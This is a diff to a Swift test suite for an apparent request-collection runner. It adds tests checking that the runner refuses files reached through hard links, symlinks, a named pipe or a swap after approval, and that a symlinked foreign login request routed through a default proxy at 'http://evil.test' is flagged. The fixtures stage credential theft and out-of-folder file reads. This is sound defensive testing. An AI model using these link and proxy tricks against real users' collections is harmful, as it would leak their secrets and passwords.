@@ -1,10 +1,11 @@
 import Foundation
+import NetworkLayer
 import NetworkLayerTesting
-import RequestCollections
 import Synchronization
 import Testing
 
 @testable import CollectionRunner
+@testable import RequestCollections
 
 @Suite struct TrustTests {
     /// Gives one answer, and remembers what it was asked.
@@ -167,6 +168,61 @@ import Testing
             if file == "own.txt/../own.txt" { continue }
             #expect(wants.isEmpty == isFree, "\(file): \(wants.map(\.want.subject))")
         }
+    }
+
+    @Test func `a file with another name elsewhere isn't the collection's, and what takes its place isn't read`() throws {
+        let folder = try TrustFolder()
+        let outside = try TrustFolder()
+        try Data("s3cret".utf8).write(to: URL(filePath: "\(outside.path)/key"))
+        try Data("own".utf8).write(to: URL(filePath: "\(folder.path)/own.txt"))
+        try FileManager.default.linkItem(atPath: "\(outside.path)/key", toPath: "\(folder.path)/linked.txt")
+        mkfifo("\(folder.path)/pipe", 0o600)
+        try Data("turnstone: 1\n".utf8).write(to: URL(filePath: "\(folder.path)/_collection.yaml"))
+        func request(_ file: String) throws -> RequestCollection {
+            let text = "get: http://h.test/\nquery: { a: \"{{file('\(file)')}}\" }\n"
+            try Data(text.utf8).write(to: URL(filePath: "\(folder.path)/a.yaml"))
+            return try RequestCollection.load(path: folder.path)
+        }
+        func sent(_ file: String) throws -> String? {
+            let collection = try request(file)
+            return try collection.resolve(collection.requests[0], environment: nil, with: TemplateEnvironment()).request.url.query()
+        }
+        #expect(try sent("own.txt") == "a=own")
+        let linked = try request("linked.txt")
+        #expect(
+            linked.wants(of: linked.requests, environment: nil).map { "\($0.want.kind) \($0.want.subject)" }
+                == ["read \(folder.path)/linked.txt"])
+        #expect(throws: ResolutionError.self) { try sent("linked.txt") }
+        #expect(throws: ResolutionError.self) { try sent("pipe") }
+        // Judged as its own, and another one when it is opened.
+        let place = CollectionPlace(folder.path)
+        let own = try #require(PermittedFile(ownOf: place, "\(folder.path)/own.txt", named: "own.txt"))
+        try FileManager.default.removeItem(atPath: "\(folder.path)/own.txt")
+        for replace in [
+            FileManager.default.linkItem(atPath:toPath:),
+            { try FileManager.default.createSymbolicLink(atPath: $1, withDestinationPath: $0) },
+        ] {
+            try? FileManager.default.removeItem(atPath: "\(folder.path)/own.txt")
+            try replace("\(outside.path)/key", "\(folder.path)/own.txt")
+            #expect(throws: CollectionFileError.self) { try own.read(limit: 100) }
+        }
+    }
+
+    @Test func `what a link makes a request of a stranger's is asked for`() async throws {
+        let folder = try TrustFolder()
+        let elsewhere = try TrustFolder()
+        try Data("post: http://h.test/\nbody: { json: { password: s3cret } }\n".utf8)
+            .write(to: URL(filePath: "\(elsewhere.path)/login.yaml"))
+        try Data("turnstone: 1\ndefaults: { proxy: \"http://evil.test\" }\n".utf8)
+            .write(to: URL(filePath: "\(folder.path)/_collection.yaml"))
+        try FileManager.default.createSymbolicLink(atPath: "\(folder.path)/stolen", withDestinationPath: elsewhere.path)
+        try Data("get: http://h.test/\n".utf8).write(to: URL(filePath: "\(folder.path)/own.yaml"))
+        let collection = try RequestCollection.load(path: folder.path)
+        let wants = collection.wants(of: collection.requests, environment: nil)
+        #expect(
+            wants.map { "\($0.want.kind) \($0.want.subject)" } == ["read \(elsewhere.path)", "read \(elsewhere.path)/login.yaml"])
+        let stolen = try #require(collection.requests.first { $0.id.rawValue == "stolen/login" })
+        #expect(throws: ResolutionError.self) { try collection.resolve(stolen, environment: nil, with: TemplateEnvironment()) }
     }
 
     @Test func `PATH holds no directory of the collection`() {
